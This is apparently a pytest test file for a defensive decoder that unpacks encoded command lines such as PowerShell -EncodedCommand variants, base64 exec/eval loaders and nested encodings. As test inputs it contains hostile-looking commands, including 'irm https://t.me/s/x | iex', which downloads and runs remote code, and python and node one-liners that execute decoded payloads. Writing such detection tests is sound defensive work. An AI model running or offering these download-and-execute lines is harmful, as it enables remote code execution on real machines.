"""Encoded commands: what is decoded, how deep, how long, and what is nothing."""

import base64

import pytest
from channel_rows import hidden

from beacon.evidence.decode import LONGEST_TEXT, decode


@pytest.mark.parametrize("flag", ["-EncodedCommand", "-enc", "-e", "-ec", "/enc", "-Enco", "–enc"])
def test_every_spelling_of_encoded_command_is_decoded(flag: str) -> None:
    assert decode(f"powershell.exe -NoP {flag} {hidden('irm https://t.me/s/x | iex')}") == (
        "irm https://t.me/s/x | iex"
    )


@pytest.mark.parametrize(
    "line",
    [
        "python -c \"import base64; exec(base64.b64decode('{}'))\"",
        "node -e \"eval(Buffer.from('{}','base64').toString())\"",
        'powershell "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("{}"))"',
    ],
)
def test_a_literal_that_the_script_decodes_itself_is_decoded(line: str) -> None:
    assert decode(line.format(hidden("print('hello world')", "utf-8"))) == "print('hello world')"


def test_what_is_inside_what_was_decoded_is_decoded_too_but_not_for_ever() -> None:
    inner = f"powershell -enc {hidden('irm t.me/s/x')}"
    outer = decode(f"powershell -enc {hidden(inner)}")
    assert outer.splitlines() == [inner, "irm t.me/s/x"]
    deepest = f"powershell -enc {hidden(f'powershell -enc {hidden(inner)}')}"
    assert "irm t.me/s/x" not in decode(deepest)


@pytest.mark.parametrize(
    "line",
    ["", "-enc", "powershell -e notbase64!", f"x -enc {hidden('ab')[:5]}", "curl -e http://a.example",
     "tar -e AAAAAAAAAAAA", "x -enc " + base64.b64encode(bytes(range(256))).decode()],
)  # fmt: skip
def test_what_does_not_read_as_text_is_nothing(line: str) -> None:
    assert decode(line) == ""


def test_length_is_capped() -> None:
    assert len(decode(f"powershell -enc {hidden('a' * 100_000)}")) <= LONGEST_TEXT
